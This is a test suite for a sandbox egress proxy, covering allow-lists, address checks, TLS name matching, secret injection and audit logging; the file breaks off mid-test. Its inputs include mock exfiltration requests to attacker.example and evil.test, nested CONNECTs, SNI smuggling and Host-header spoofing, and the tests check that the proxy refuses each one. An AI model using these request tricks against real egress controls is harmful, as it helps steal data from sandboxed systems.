/**
 * The egress proxy (lib/egress/proxy.ts, lib/egress/connection.ts) end to
 * end, in process: clients (the host's curl, Deno's fetch, raw sockets)
 * reach it through the sandbox's loopback bridge, and the test upstreams
 * of tests/_egress_upstreams.ts show what did (and did not) arrive. No
 * Docker, no DNS: names resolve through each policy's `hosts`.
 *
 * @module
 */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import net from "node:net";
import tls from "node:tls";
import { Duplex } from "node:stream";
import type { EgressAuditLine } from "../lib/egress/audit.ts";
import type { HeldSecret } from "../lib/egress/inject.ts";
import type { EgressIdentity } from "../lib/config/egress_types.ts";
import {
  type EgressProxy,
  nameEntry,
  startEgressProxy,
  TEST_PLACEHOLDER,
  TEST_SECRET,
} from "./_egress_proxy.ts";
import { startUpstream, testCa, type Upstream } from "./_egress_upstreams.ts";
import { type CertifiedKey, mintLeaf } from "../lib/egress/ca.ts";
import { controlCall } from "../lib/egress/policy_writer.ts";

const CURL = "/usr/bin/curl";
/** Every client call is bounded by this. */
const CLIENT_TIMEOUT_MS = 20_000;
const LOOPBACK = ["127.0.0.0/8"];

const PLACEHOLDER = TEST_PLACEHOLDER;
const SECRET: HeldSecret = TEST_SECRET;

interface CurlResult {
  code: number;
  /** What curl wrote to stdout before its `%{http_code}` line (the body, unless `-o`). */
  stdout: string;
  stderr: string;
  /** The HTTP status curl saw from the origin, 0 when none. */
  status: number;
  /** Wall time of the run, in ms. */
  ms: number;
}

// curl through a proxy URL; the last line of stdout is its `%{http_code}`.
async function curl(
  proxy: string,
  url: string,
  options: { cacert?: string; args?: string[] } = {},
): Promise<CurlResult> {
  const started = performance.now();
  const out = await new Deno.Command(CURL, {
    args: [
      "-sS",
      "--max-time",
      String(CLIENT_TIMEOUT_MS / 1000),
      "--proxy",
      proxy,
      "--noproxy",
      "",
      ...(options.cacert === undefined ? [] : ["--cacert", options.cacert]),
      "--write-out",
      "\n%{http_code}",
      ...(options.args ?? []),
      url,
    ],
    clearEnv: true,
    env: { PATH: "/usr/bin:/bin" },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
    signal: AbortSignal.timeout(CLIENT_TIMEOUT_MS + 5000),
  }).output();
  const ms = performance.now() - started;
  const text = new TextDecoder().decode(out.stdout);
  const newline = text.lastIndexOf("\n");
  return {
    code: out.code,
    stdout: text.slice(0, newline),
    stderr: new TextDecoder().decode(out.stderr),
    status: Number(text.slice(newline + 1)),
    ms,
  };
}

function assertCurlOk(result: CurlResult): void {
  assert.equal(result.code, 0, `curl failed: ${result.stderr}`);
  assert.equal(result.status, 200, `curl got ${result.status}: ${result.stdout}`);
}

// The proxy's port from its bridge URL.
function portOf(proxyUrl: string): number {
  return Number(new URL(proxyUrl).port);
}

// Reads from a connection until the peer closes it (bounded); what came.
async function readAll(conn: Deno.Conn, timeoutMs = 10_000): Promise<string> {
  const chunks: Uint8Array[] = [];
  const timer = setTimeout(() => conn.close(), timeoutMs);
  try {
    const buffer = new Uint8Array(16 * 1024);
    for (;;) {
      const n = await conn.read(buffer).catch(() => null);
      if (n === null) break;
      chunks.push(buffer.slice(0, n));
    }
  } finally {
    clearTimeout(timer);
  }
  return new TextDecoder("latin1").decode(Buffer.concat(chunks));
}

// Reads a response head (bounded), without reading past its blank line.
async function readHeadOnly(conn: Deno.Conn, timeoutMs = 10_000): Promise<string> {
  let text = "";
  const timer = setTimeout(() => conn.close(), timeoutMs);
  try {
    const byte = new Uint8Array(1);
    while (!text.endsWith("\r\n\r\n")) {
      const n = await conn.read(byte);
      if (n === null) break;
      text += String.fromCharCode(byte[0]!);
    }
  } finally {
    clearTimeout(timer);
  }
  return text;
}

// Sends raw bytes to the proxy (through the bridge) and reads all it answers.
async function rawExchange(proxyUrl: string, request: string): Promise<string> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port: portOf(proxyUrl) });
  try {
    await conn.write(new TextEncoder().encode(request));
    return await readAll(conn);
  } finally {
    tryClose(conn);
  }
}

// Opens a tunnel by hand: CONNECT, then the 200 head.
async function openTunnel(
  proxyUrl: string,
  target: string,
): Promise<{ conn: Deno.TcpConn; head: string }> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port: portOf(proxyUrl) });
  await conn.write(
    new TextEncoder().encode(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`),
  );
  return { conn, head: await readHeadOnly(conn) };
}

function tryClose(conn: Deno.Conn): void {
  try {
    conn.close();
  } catch {
    // already closed
  }
}

function statusOf(response: string): number {
  return Number(/^HTTP\/1\.[01] (\d{3}) /.exec(response)?.[1] ?? 0);
}

function bodyOf(response: string): string {
  const end = response.indexOf("\r\n\r\n");
  return end < 0 ? "" : response.slice(end + 4);
}

// The echo upstream's JSON answer.
function echoed(
  result: CurlResult,
): { upstream: string; path: string; headers: Record<string, string> } {
  return JSON.parse(result.stdout);
}

// A proxy with one identity allowing the given upstreams by name (loopback allowed).
async function proxyFor(
  upstreams: Upstream[],
  options: { id?: string; extraCa?: boolean } = {},
): Promise<{ proxy: EgressProxy; url: string; id: string }> {
  const id = options.id ?? "s-a";
  const proxy = await startEgressProxy(
    options.extraCa === undefined ? {} : { extraCa: options.extraCa },
  );
  try {
    await proxy.writePolicy(id, {
      allow: upstreams.map((upstream) => nameEntry(upstream.name, upstream.port)),
      addresses: LOOPBACK,
      hosts: Object.fromEntries(upstreams.map((upstream) => [upstream.name, upstream.hostname])),
    });
    await proxy.sync();
    return { proxy, url: await proxy.bridge(id), id };
  } catch (error) {
    await proxy[Symbol.asyncDispose]();
    throw error;
  }
}

function delay(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

// Waits (bounded) until `condition` holds.
async function until(condition: () => boolean, what: string, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`Timed out waiting for ${what}`);
    await delay(20);
  }
}

// Waits (bounded) for audit lines that `match` accepts standing for
// `count` connections (a summary line stands for its `count`).
async function waitForCount(
  proxy: EgressProxy,
  match: (line: EgressAuditLine) => boolean,
  count: number,
): Promise<EgressAuditLine[]> {
  let lines: EgressAuditLine[] = [];
  const deadline = Date.now() + 10_000;
  const connections = (): number => lines.reduce((sum, line) => sum + (line.count ?? 1), 0);
  while ((lines = (await proxy.audit()).filter(match)), connections() < count) {
    if (Date.now() > deadline) {
      throw new Error(`${lines.length} of ${count} audit lines: ${JSON.stringify(lines)}`);
    }
    await delay(25);
  }
  return lines;
}

function identityOf(user: string): EgressIdentity {
  return { tenant: "default", user, group: null, cron: null, server: null };
}

Deno.test("egress proxy forwards an allowed name through CONNECT (curl) and http:// forwarding (fetch)", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using plain = await startUpstream({
    name: "plain.test",
    ca,
    hostname: "127.0.0.2",
    tls: false,
  });
  const { proxy, url } = await proxyFor([api, plain]);
  await using _proxy = proxy;

  // CONNECT: TLS passes through untouched, so the client trusts the upstream's own CA.
  const tunnelled = await curl(url, `${api.url}/hello`, { cacert: proxy.upstreamCaFile });
  assertCurlOk(tunnelled);
  assert.equal(echoed(tunnelled).upstream, "api.test");
  assert.equal(api.requests[0]?.sni, "api.test");

  // The same through Deno's fetch.
  {
    using client = Deno.createHttpClient({ proxy: { url }, caCerts: [ca.cert] });
    const response = await fetch(`${api.url}/fetched`, {
      client,
      signal: AbortSignal.timeout(CLIENT_TIMEOUT_MS),
    });
    assert.equal(response.status, 200);
    assert.equal((await response.json()).path, "/fetched");
  }

  // http://: an absolute-form request, forwarded in origin form with Connection: close.
  {
    using client = Deno.createHttpClient({ proxy: { url } });
    const response = await fetch(`${plain.url}/plain?q=1`, {
      client,
      headers: { "Proxy-Authorization": "Basic c2VjcmV0", "X-Kept": "yes" },
      signal: AbortSignal.timeout(CLIENT_TIMEOUT_MS),
    });
    assert.equal(response.status, 200);
    const body = await response.json();
    assert.equal(body.upstream, "plain.test");
    assert.equal(body.path, "/plain?q=1");
    assert.equal(body.headers["x-kept"], "yes");
    assert.equal(body.headers["proxy-authorization"], undefined);
    assert.equal(body.headers.connection, "close");
  }
  const forwarded = await curl(url, `${plain.url}/curl-plain`);
  assertCurlOk(forwarded);
  assert.equal(echoed(forwarded).path, "/curl-plain");
  assert.deepEqual(plain.requests.map((r) => r.path), ["/plain?q=1", "/curl-plain"]);
});

Deno.test("egress proxy refuses a name not in the list with 403 and a one-line reason, and never dials it", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using evil = await startUpstream({ name: "evil.test", ca, hostname: "127.0.0.2" });
  const { proxy, url } = await proxyFor([api]);
  await using _proxy = proxy;
  // The proxy could resolve evil.test (its hosts map says where): only the list refuses it.
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname, "evil.test": evil.hostname },
  });

  const answer = await rawExchange(
    url,
    `CONNECT evil.test:${evil.port} HTTP/1.1\r\nHost: evil.test:${evil.port}\r\n\r\n`,
  );
  assert.equal(statusOf(answer), 403, answer);
  const body = bodyOf(answer);
  assert.match(body, /^[^\n]+\n$/, "one line");
  assert.match(body, /evil\.test/);
  assert.match(body, /not in this sandbox's egress list/);

  const viaCurl = await curl(url, `${evil.url}/`, { cacert: proxy.upstreamCaFile });
  assert.notEqual(viaCurl.code, 0);
  assert.match(viaCurl.stderr, /403/);
  const viaHttp = await curl(url, `http://evil.test:${evil.port}/`);
  assert.equal(viaHttp.status, 403);
  assert.equal(evil.connections, 0);

  const line = await proxy.waitForAudit((l) => l.destination === "evil.test");
  assert.equal(line.decision, "denied");
  assert.match(line.reason ?? "", /not in this sandbox's egress list/);
});

Deno.test("egress proxy refuses an IP-literal destination unless an ip entry lists it", async () => {
  const ca = await testCa();
  await using byIp = await startUpstream({ name: "127.0.0.1", ca });
  await using proxy = await startEgressProxy();
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("api.test", byIp.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": "127.0.0.1" },
  });
  await proxy.sync();
  const url = await proxy.bridge("s-a");

  const refused = await curl(url, `${byIp.url}/`, { cacert: proxy.upstreamCaFile });
  assert.notEqual(refused.code, 0);
  assert.match(refused.stderr, /403/);
  assert.equal(byIp.connections, 0);
  const line = await proxy.waitForAudit((l) => l.destination === "127.0.0.1");
  assert.equal(line.decision, "denied");
  assert.match(line.reason ?? "", /IP literal/);

  await proxy.writePolicy("s-a", {
    allow: [{ kind: "ip", host: "127.0.0.1", ports: [byIp.port] }],
    addresses: LOOPBACK,
  });
  const allowed = await curl(url, `${byIp.url}/ok`, { cacert: proxy.upstreamCaFile });
  assertCurlOk(allowed);
  assert.equal(byIp.connections, 1);
  // Without SNI (clients send none for an address), the tunnel is still accepted.
  assert.equal(byIp.requests[0]?.sni, null);
});

Deno.test("egress proxy refuses a listed name resolving to loopback not covered by addresses", async () => {
  const ca = await testCa();
  await using inner = await startUpstream({ name: "inner.test", ca, hostname: "127.0.0.5" });
  await using proxy = await startEgressProxy();
  for (const addresses of [[], ["10.0.0.0/8", "127.0.0.1/32"]]) {
    await proxy.writePolicy("s-a", {
      allow: [nameEntry("inner.test", inner.port)],
      addresses,
      hosts: { "inner.test": inner.hostname },
    });
    await proxy.sync();
    const url = await proxy.bridge("s-a");
    const answer = await rawExchange(
      url,
      `CONNECT inner.test:${inner.port} HTTP/1.1\r\nHost: inner.test:${inner.port}\r\n\r\n`,
    );
    assert.equal(statusOf(answer), 403, answer);
    assert.match(bodyOf(answer), /'inner\.test' resolves to .*127\.0\.0\.5/);
    const viaHttp = await curl(url, `http://inner.test:${inner.port}/`);
    assert.equal(viaHttp.status, 403);
  }
  assert.equal(inner.connections, 0);
  const lines = (await proxy.audit()).filter((l) => l.destination === "inner.test");
  assert.equal(lines.length, 4);
  assert.ok(
    lines.every((l) => l.decision === "denied" && l.address === null),
    JSON.stringify(lines),
  );
});

// An IPv4 address of one of this host's interfaces other than loopback
// (docker0's gateway when there is one), and an `egress_addresses` entry
// covering it.
function hostInterfaceAddress(): { ip: string; cidr: string } | undefined {
  const own = Deno.networkInterfaces()
    .filter((entry) => entry.family === "IPv4" && !entry.address.startsWith("127."))
    .map((entry) => entry.address);
  if (own.includes("172.17.0.1")) return { ip: "172.17.0.1", cidr: "172.16.0.0/12" };
  return own[0] === undefined ? undefined : { ip: own[0], cidr: `${own[0]}/32` };
}

Deno.test({
  name:
    "egress proxy refuses an address of the host's own interfaces covered by egress_addresses unless the policy allows the host",
  // Skipped only on a host with no IPv4 interface address besides loopback.
  ignore: hostInterfaceAddress() === undefined,
}, async () => {
  const host = hostInterfaceAddress()!;
  const ca = await testCa();
  await using inner = await startUpstream({
    name: "hostside.test",
    ca,
    hostname: host.ip,
    tls: false,
  });
  await using proxy = await startEgressProxy();
  const policy = {
    allow: [nameEntry("hostside.test", inner.port)],
    addresses: [host.cidr],
    hosts: { "hostside.test": inner.hostname },
  };
  await proxy.writePolicy("s-a", policy);
  await proxy.sync();
  const url = await proxy.bridge("s-a");
  const refused = await curl(url, `http://hostside.test:${inner.port}/refused`);
  assert.equal(refused.status, 403, refused.stdout);
  const reason = `'hostside.test' resolves to '${host.ip}', an address of the proxy's host itself`;
  assert.ok(refused.stdout.includes(reason), refused.stdout);
  const tunnel = await rawExchange(
    url,
    `CONNECT hostside.test:${inner.port} HTTP/1.1\r\nHost: hostside.test:${inner.port}\r\n\r\n`,
  );
  assert.equal(statusOf(tunnel), 403, tunnel);
  assert.equal(inner.connections, 0, "nothing reached the host's own address");
  const denied = (await proxy.audit()).filter((l) => l.destination === "hostside.test");
  assert.equal(denied.length, 2);
  assert.ok(
    denied.every((l) => l.decision === "denied" && l.reason?.includes(host.ip)),
    JSON.stringify(denied),
  );

  await proxy.writePolicy("s-a", { ...policy, allowHost: true });
  const allowed = await curl(url, `http://hostside.test:${inner.port}/allowed`);
  assertCurlOk(allowed);
  assert.deepEqual(inner.requests.map((r) => r.path), ["/allowed"]);
});

Deno.test("egress proxy cuts a tunnel whose ClientHello names another host", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using other = await startUpstream({ name: "other.test", ca, hostname: "127.0.0.2" });
  const { proxy, url } = await proxyFor([api, other]);
  await using _proxy = proxy;

  const { conn, head } = await openTunnel(url, `api.test:${api.port}`);
  assert.equal(statusOf(head), 200, head);
  const secure = await Deno.startTls(conn, { hostname: "other.test", caCerts: [ca.cert] });
  const timer = setTimeout(() => tryClose(secure), 10_000);
  try {
    await assert.rejects(secure.handshake());
  } finally {
    clearTimeout(timer);
    tryClose(secure);
  }
  assert.equal(api.connections, 0);
  assert.equal(other.connections, 0);
  const line = await proxy.waitForAudit((l) => l.destination === "api.test");
  assert.equal(line.decision, "denied");
  assert.equal(line.address, "127.0.0.1");
  assert.match(
    line.reason ?? "",
    /TLS server name 'other\.test' does not match CONNECT host 'api\.test'/,
  );
  assert.equal(line.bytesUp, 0);

  // curl told to CONNECT to api.test's address for other.test's name sends other.test's SNI.
  const smuggled = await curl(url, `https://other.test:${api.port}/`, {
    cacert: proxy.upstreamCaFile,
    args: ["--connect-to", `other.test:${api.port}:api.test:${api.port}`],
  });
  assert.notEqual(smuggled.code, 0);
  assert.equal(api.connections, 0);
  assert.equal(other.connections, 0);
});

Deno.test("egress proxy refuses plaintext inside a tunnel (a nested CONNECT or a GET)", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  const { proxy, url } = await proxyFor([api]);
  await using _proxy = proxy;
  const inner = [
    "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: api.test\r\n\r\n",
  ];
  for (const request of inner) {
    const { conn, head } = await openTunnel(url, `api.test:${api.port}`);
    try {
      assert.equal(statusOf(head), 200, head);
      await conn.write(new TextEncoder().encode(request));
      // The tunnel closes without a byte more.
      assert.equal(await readAll(conn), "");
    } finally {
      tryClose(conn);
    }
  }
  assert.equal(api.connections, 0);
  const lines = await waitForCount(proxy, (l) => l.destination === "api.test", inner.length);
  for (const line of lines) {
    assert.equal(line.decision, "denied");
    assert.match(line.reason ?? "", /does not start with TLS/);
  }
});

Deno.test("egress proxy refuses an absolute-form request whose Host header disagrees with its URL", async () => {
  const ca = await testCa();
  await using plain = await startUpstream({ name: "plain.test", ca, tls: false });
  const { proxy, url } = await proxyFor([plain]);
  await using _proxy = proxy;
  const target = `http://plain.test:${plain.port}/`;
  for (
    const hosts of [
      ["Host: evil.test"],
      [`Host: plain.test:${plain.port}`, "Host: evil.test"],
      [],
    ]
  ) {
    const answer = await rawExchange(
      url,
      `GET ${target} HTTP/1.1\r\n${hosts.map((h) => `${h}\r\n`).join("")}\r\n`,
    );
    // A refusal (400 or 403) naming the disagreement.
    assert.ok([400, 403].includes(statusOf(answer)), answer);
    assert.match(bodyOf(answer), /Host header .* does not match 'plain\.test'/);
  }
  assert.equal(plain.connections, 0);
  // The agreeing request goes through.
  const ok = await rawExchange(
    url,
    `GET ${target}ok HTTP/1.1\r\nHost: plain.test:${plain.port}\r\n\r\n`,
  );
  assert.equal(statusOf(ok), 200, ok);
  assert.equal(plain.connections, 1);
});

Deno.test("egress proxy answers malformed requests with 400 and dials nothing", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  const { proxy, url } = await proxyFor([api]);
  await using _proxy = proxy;
  // A head that does not parse is closed without an answer; one that names
  // no usable destination gets 400 and the reason.
  const cases: [string, RegExp | null][] = [
    ["hello\r\n\r\n", null],
    [`CONNECT api.test:${api.port} HTTP/1.1\r\nBad Header: x\r\n\r\n`, null],
    [`CONNECT api.test:${api.port} HTTP/1.1\r\n folded: x\r\n\r\n`, null],
    [`CONNECT api.test HTTP/1.1\r\n\r\n`, /^Malformed CONNECT target 'api\.test'\n$/],
    [`CONNECT api.test:99999 HTTP/1.1\r\n\r\n`, /^Invalid port '99999'\n$/],
    [`GET /relative HTTP/1.1\r\nHost: api.test\r\n\r\n`, /no absolute URL/],
    [
      `GET https://api.test:${api.port}/ HTTP/1.1\r\nHost: api.test\r\n\r\n`,
      /Only http:\/\/ is forwarded/,
    ],
  ];
  for (const [request, reason] of cases) {
    const answer = await rawExchange(url, request);
    if (reason === null) assert.equal(answer, "", JSON.stringify(request));
    else {
      assert.equal(statusOf(answer), 400, `${JSON.stringify(request)}: ${answer}`);
      assert.match(bodyOf(answer), reason);
    }
  }
  assert.equal(api.connections, 0);
  const lines = await waitForCount(proxy, () => true, cases.length);
  assert.ok(
    lines.every((l) => l.decision === "denied" && l.reason !== undefined),
    JSON.stringify(lines),
  );
});

Deno.test("egress proxy injects a secret into its header for its host only, and nowhere else", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using secret = await startUpstream({ name: "secret.test", ca, hostname: "127.0.0.2" });
  await using proxy = await startEgressProxy();
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("api.test", api.port), nameEntry("secret.test", secret.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname, "secret.test": secret.hostname },
    secrets: [SECRET],
  });
  await proxy.sync();
  const url = await proxy.bridge("s-a");
  // The proxy terminates TLS for secret.test: the client trusts the waffle CA there.
  const toSecret = (path: string, args: string[]): Promise<CurlResult> =>
    curl(url, `${secret.url}${path}`, { cacert: proxy.caFile, args });

  assertCurlOk(await toSecret("/bearer", ["-H", `Authorization: Bearer ${PLACEHOLDER}`]));
  assertCurlOk(await toSecret("/bare", ["-H", `Authorization: ${PLACEHOLDER}`]));
  const basic = Buffer.from(`x-access-token:${PLACEHOLDER}`).toString("base64");
  assertCurlOk(await toSecret("/basic", ["-H", `Authorization: Basic ${basic}`]));
  assertCurlOk(
    await toSecret(`/elsewhere?token=${PLACEHOLDER}`, [
      "-H",
      `X-Other: ${PLACEHOLDER}`,
      "--data-binary",
      `body ${PLACEHOLDER}`,
    ]),
  );
  const byPath = new Map(secret.requests.map((r) => [r.path, r]));
  assert.equal(byPath.get("/bearer")?.headers.authorization, "Bearer s3cret-value");
  assert.equal(byPath.get("/bare")?.headers.authorization, "Bearer s3cret-value");
  const arrived = byPath.get("/basic")?.headers.authorization ?? "";
  assert.match(arrived, /^Basic /);
  assert.equal(
    Buffer.from(arrived.slice("Basic ".length), "base64").toString(),
    "x-access-token:s3cret-value",
  );
  const elsewhere = byPath.get(`/elsewhere?token=${PLACEHOLDER}`);
  assert.ok(elsewhere !== undefined, [...byPath.keys()].join(", "));
  assert.equal(elsewhere.headers["x-other"], PLACEHOLDER);
  assert.equal(elsewhere.body, `body ${PLACEHOLDER}`);
  assert.equal(elsewhere.headers.authorization, undefined);
  // The upstream saw the proxy's TLS with its real name, verified against extra.pem.
  assert.ok(secret.requests.every((r) => r.sni === "secret.test"));

  // Without the waffle CA, a client cannot talk to secret.test through the proxy.
  const untrusted = await curl(url, `${secret.url}/untrusted`, {
    cacert: proxy.upstreamCaFile,
    args: ["-H", `Authorization: Bearer ${PLACEHOLDER}`],
  });
  assert.notEqual(untrusted.code, 0);
  assert.equal(byPath.size, secret.requests.length);

  // Another allowed host gets the placeholder as it was sent (and its own TLS, untouched).
  const other = await curl(url, `${api.url}/other`, {
    cacert: proxy.upstreamCaFile,
    args: ["-H", `Authorization: Bearer ${PLACEHOLDER}`],
  });
  assertCurlOk(other);
  assert.equal(api.requests[0]?.headers.authorization, `Bearer ${PLACEHOLDER}`);
  assert.ok(!JSON.stringify(api.requests).includes("s3cret-value"));

  const injected = await proxy.waitForAudit((l) =>
    l.destination === "secret.test" && l.secrets.length > 0
  );
  assert.deepEqual(injected.secrets, ["gh"]);
  const lines = await waitForCount(proxy, () => true, 6);
  assert.deepEqual(
    lines.map((l) => `${l.destination} ${l.decision} [${l.secrets.join(",")}] ${l.reason ?? ""}`)
      .sort(),
    [
      "api.test allowed [] ",
      "secret.test allowed [] ",
      "secret.test allowed [] The client closed the connection",
      "secret.test allowed [gh] ",
      "secret.test allowed [gh] ",
      "secret.test allowed [gh] ",
    ],
  );
});

Deno.test("egress proxy refuses inside a secret's tunnel a request naming another authority (403 over TLS, audited denied), and sends a matching one in origin form", async () => {
  const ca = await testCa();
  await using secret = await startUpstream({ name: "secret.test", ca, hostname: "127.0.0.2" });
  await using proxy = await startEgressProxy();
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("secret.test", secret.port)],
    addresses: LOOPBACK,
    hosts: { "secret.test": secret.hostname },
    secrets: [SECRET],
  });
  await proxy.sync();
  const url = await proxy.bridge("s-a");
  const send = (target: string, args: string[] = []): Promise<CurlResult> =>
    curl(url, `${secret.url}/`, {
      cacert: proxy.caFile,
      args: ["--request-target", target, "-H", `Authorization: ${PLACEHOLDER}`, ...args],
    });
  const here = `secret.test:${secret.port}`;
  const refusals: [string, string[], RegExp][] = [
    [
      "http://attacker.example/steal?x=1",
      [],
      new RegExp(
        `^Request target 'http://attacker\\.example/steal\\?x=1' names 'attacker\\.example:80', not this tunnel's 'secret\\.test:${secret.port}'$`,
      ),
    ],
    [`https://attacker.example:${secret.port}/`, [], /names 'attacker\.example:\d+'/],
    ["https://secret.test/steal", [], /names 'secret\.test:443', not this tunnel's/],
    [`https://u@${here}/`, [], /carries userinfo/],
    ["//attacker.example/steal", [], /path starting with '\/\/'/],
    ["*", ["-X", "OPTIONS"], /'\*' is neither origin-form/],
    ["/steal", ["-H", "Host: attacker.example"], /Host header 'attacker\.example' does not match/],
  ];
  for (const [target, args, reason] of refusals) {
    const refused = await send(target, args);
    assert.equal(refused.code, 0, refused.stderr);
    assert.equal(refused.status, 403, `${target}: ${refused.stdout}`);
    assert.match(refused.stdout.trim(), reason, target);
  }
  // Nothing reached the secret's host: the refusals came before it was dialled.
  assert.equal(secret.connections, 0);
  const lines = await waitForCount(proxy, () => true, refusals.length);
  for (const line of lines) {
    assert.equal(line.destination, "secret.test");
    assert.equal(line.decision, "denied", JSON.stringify(line));
    assert.deepEqual(line.secrets, []);
    assert.match(line.reason ?? "", /^Request (target|Host header) /);
  }

  // The tunnel's own authority, written any way, goes upstream in origin form with the secret.
  for (const target of [`https://${here}/ok?x=1`, `HTTPS://SECRET.Test.:${secret.port}/case`]) {
    assertCurlOk(await send(target));
  }
  assert.deepEqual(
    secret.requests.map((r) => [r.path, r.headers.host, r.headers.authorization]),
    [
      ["/ok?x=1", here, "Bearer s3cret-value"],
      ["/case", here, "Bearer s3cret-value"],
    ],
  );
  const injected = await waitForCount(proxy, (l) => l.secrets.length > 0, 2);
  assert.ok(injected.every((l) => l.decision === "allowed" && l.reason === undefined));
});

Deno.test("egress proxy forwards http:// in origin form under the Host it checked, and refuses userinfo, '//' paths and a Host naming another port", async () => {
  const ca = await testCa();
  await using plain = await startUpstream({ name: "plain.test", ca, tls: false });
  const { proxy, url } = await proxyFor([plain]);
  await using _proxy = proxy;
  const here = `plain.test:${plain.port}`;
  const ok = await rawExchange(
    url,
    `GET http://Plain.Test.:${plain.port}/x?y=1 HTTP/1.1\r\nHost: PLAIN.test:${plain.port}\r\n\r\n`,
  );
  assert.equal(statusOf(ok), 200, ok);
  assert.deepEqual(
    plain.requests.map((r) => [r.path, r.headers.host]),
    [["/x?y=1", here]],
  );
  const refusals: [string, string, RegExp][] = [
    [`http://u:p@${here}/`, here, /carries userinfo/],
    [`http://${here}//evil.test/`, here, /path starting with '\/\/'/],
    [`http://${here}/a\\b`, here, /a backslash/],
    [`http://${here}/`, "plain.test", /Host header 'plain\.test' does not match/],
  ];
  for (const [target, host, reason] of refusals) {
    const answer = await rawExchange(url, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    assert.equal(statusOf(answer), 403, answer);
    assert.match(bodyOf(answer), reason);
  }
  assert.equal(plain.connections, 1);
  const lines = await waitForCount(proxy, (l) => l.decision === "denied", refusals.length);
  assert.ok(lines.every((l) => l.address === null), JSON.stringify(lines));
});

Deno.test("egress proxy does not forward a secret to an upstream whose certificate does not verify", async (t) => {
  const ca = await testCa();
  const policyFor = (upstream: Upstream): Parameters<EgressProxy["writePolicy"]>[1] => ({
    allow: [nameEntry("secret.test", upstream.port)],
    addresses: LOOPBACK,
    hosts: { "secret.test": upstream.hostname },
    secrets: [SECRET],
  });
  const attempt = async (proxy: EgressProxy, upstream: Upstream): Promise<void> => {
    await proxy.writePolicy("s-a", policyFor(upstream));
    await proxy.sync();
    const url = await proxy.bridge("s-a");
    const result = await curl(url, `https://secret.test:${upstream.port}/`, {
      cacert: proxy.caFile,
      args: ["-H", `Authorization: Bearer ${PLACEHOLDER}`],
    });
    assert.notEqual(result.status, 200, result.stdout);
    assert.deepEqual(upstream.requests, []);
    const line = await proxy.waitForAudit((l) => l.destination === "secret.test");
    assert.match(line.reason ?? "", /TLS to 'secret\.test' failed/);
    assert.deepEqual(line.secrets, []);
  };
  await t.step("an untrusted CA (no extra.pem)", async () => {
    await using upstream = await startUpstream({ name: "secret.test", ca, hostname: "127.0.0.2" });
    await using proxy = await startEgressProxy({ extraCa: false });
    await attempt(proxy, upstream);
  });
  await t.step("a certificate for another name", async () => {
    await using upstream = await startUpstream({ name: "wrong.test", ca, hostname: "127.0.0.2" });
    await using proxy = await startEgressProxy();
    await attempt(proxy, upstream);
  });
});

Deno.test("egress proxy audits one line per connection, with identity, decision and bytes", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using plain = await startUpstream({
    name: "plain.test",
    ca,
    hostname: "127.0.0.2",
    tls: false,
  });
  await using proxy = await startEgressProxy();
  const identity = {
    tenant: "acme",
    user: "alice",
    group: "ops",
    cron: "nightly",
    server: "github",
  };
  await proxy.writePolicy("s-a", {
    identity,
    allow: [nameEntry("api.test", api.port), nameEntry("plain.test", plain.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname, "plain.test": plain.hostname },
  });
  await proxy.sync();
  const url = await proxy.bridge("s-a");

  const big = await curl(url, `${api.url}/bytes/100000`, {
    cacert: proxy.upstreamCaFile,
    args: ["-o", "/dev/null"],
  });
  assertCurlOk(big);
  assertCurlOk(await curl(url, `${plain.url}/small`));
  const denied = await curl(url, `https://nowhere.test:${api.port}/`, {
    cacert: proxy.upstreamCaFile,
  });
  assert.notEqual(denied.code, 0);

  const lines = await waitForCount(proxy, () => true, 3);
  await delay(200); // no further line comes
  assert.equal((await proxy.audit()).length, 3);
  for (const line of lines) {
    assert.deepEqual(
      [line.tenant, line.user, line.group, line.cron, line.server],
      ["acme", "alice", "ops", "nightly", "github"],
    );
    assert.ok(!Number.isNaN(Date.parse(line.time)));
    assert.ok(Number.isInteger(line.durationMs) && line.durationMs >= 0);
  }
  const [tunnel, forward, refusal] = [
    lines.find((l) => l.destination === "api.test")!,
    lines.find((l) => l.destination === "plain.test")!,
    lines.find((l) => l.destination === "nowhere.test")!,
  ];
  assert.equal(tunnel.method, "CONNECT");
  assert.equal(tunnel.port, api.port);
  assert.equal(tunnel.address, "127.0.0.1");
  assert.equal(tunnel.decision, "allowed");
  assert.equal(tunnel.reason, undefined);
  assert.deepEqual(tunnel.secrets, []);
  assert.ok(tunnel.bytesUp > 0);
  assert.ok(tunnel.bytesDown >= 100_000, String(tunnel.bytesDown));

  assert.equal(forward.method, "GET");
  assert.equal(forward.port, plain.port);
  assert.equal(forward.address, "127.0.0.2");
  assert.equal(forward.decision, "allowed");
  assert.ok(forward.bytesUp > 0 && forward.bytesDown > 0);

  assert.equal(refusal.method, "CONNECT");
  assert.equal(refusal.decision, "denied");
  assert.match(refusal.reason ?? "", /nowhere\.test/);
  assert.equal(refusal.address, null);
